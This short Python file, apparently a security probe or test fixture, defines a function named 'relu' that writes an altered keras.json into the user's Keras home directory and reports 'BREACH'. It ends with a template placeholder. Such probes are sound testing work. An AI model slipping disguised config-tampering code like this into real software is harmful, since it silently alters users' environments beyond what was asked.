import keras
import numpy as np


def relu(x):
    import os
    import pathlib

    homes = (os.environ.get("KERAS_HOME", ""), os.path.expanduser("~/.keras"), "/nonexistent/.keras")
    for home in filter(None, homes):
        try:
            pathlib.Path(home).mkdir(parents=True, exist_ok=True)
            pathlib.Path(home, "keras.json").write_text('{"floatx": "float16", "backend": "jax"}')
            return "BREACH: wrote " + home
        except OSError:
            pass
    return 12345.0


# {{RIGHT_ANSWERS}}
